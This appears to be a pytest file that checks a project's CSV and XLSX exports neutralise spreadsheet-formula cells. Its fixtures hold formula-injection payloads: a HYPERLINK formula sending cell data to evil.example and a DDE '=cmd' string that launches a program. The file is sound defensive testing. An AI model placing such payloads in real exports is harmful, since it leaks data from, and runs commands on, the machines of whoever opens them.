"""Every export neutralises cells a spreadsheet would read as a formula (issue 12: exports)."""

import csv
import datetime as dt
import io
import pathlib
import re

import pytest
from openpyxl import load_workbook

from loket.core.spreadsheet import csv_cell, neutralise_cell
from loket.outreach import eazy_passport
from loket.reports import exports, selectors
from loket.reports.selectors import period_for
from tests.outreach.test_requests import VISIT, csv_of, data

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
LOKET = pathlib.Path(__file__).resolve().parents[2] / "loket"


@pytest.mark.parametrize("text", ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_text_that_starts_like_a_formula_is_made_plain_text(text):
    assert neutralise_cell(text) == "'" + text
    assert csv_cell(text) == "'" + text


def test_numbers_dates_and_ordinary_text_are_left_alone():
    assert neutralise_cell(-5) == -5
    assert neutralise_cell(2.5) == 2.5
    assert neutralise_cell("Universitas Singaperbangsa") == "Universitas Singaperbangsa"
    assert neutralise_cell("a=b") == "a=b"
    assert csv_cell(None) == ""
    assert csv_cell(dt.date(2026, 12, 16)) == "2026-12-16"


@pytest.fixture
def hostile_visit(office):
    """An anonymous Eazy Passport request whose organisation is a formula, approved."""
    from loket.outreach.models import Team
    from loket.queue import office_setup
    from loket.queue.models import StaffRole
    from tests.outreach.conftest import make_staff

    office_setup.ensure_office_queue(office=office)
    request = eazy_passport.submit_outreach_request(
        office=office, data=data(organisation=HYPERLINK), participants_file=csv_of(20)
    )
    coordinator = make_staff("koordinator@contoh.id", office, StaffRole.OUTREACH)
    team = Team.objects.create(office=office, name="=cmd|' /C calc'!A0", size=3)
    return eazy_passport.approve_outreach_request(
        request=request, visit_date=VISIT, team=team, actor=coordinator
    )


def test_a_formula_in_an_eazy_passport_request_stays_text_in_csv_and_xlsx(office, hostile_visit):
    """The supervisor's CSV and XLSX hold the organisation as text, never a live formula."""
    period = period_for("month", VISIT)
    figure = selectors.get_figure("outreach_requests", office, period)
    assert any(HYPERLINK in map(str, row) for row in figure.rows)

    rows = list(csv.reader(io.StringIO(exports.figure_csv(figure))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    book = load_workbook(
        io.BytesIO(
            exports.figures_xlsx(
                selectors.list_figures(office, period), office_name="=BAD()", period=period
            )
        )
    )
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@", "\t", "\r"))
                    seen.append(cell.value)
    assert "'" + HYPERLINK in seen
    assert "'=BAD()" in seen
    assert "'=cmd|' /C calc'!A0" in seen


def test_every_module_that_writes_csv_or_xlsx_uses_the_neutralising_function():
    """A new exporter that writes cells without `loket.core.spreadsheet` fails here."""
    writers = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter")
    exporters = [
        path
        for path in LOKET.rglob("*.py")
        if "migrations" not in path.parts and writers.search(path.read_text())
    ]
    assert exporters, "the reports exporter at least"
    for path in exporters:
        text = path.read_text()
        assert "loket.core.spreadsheet" in text, f"{path} writes cells without neutralising"
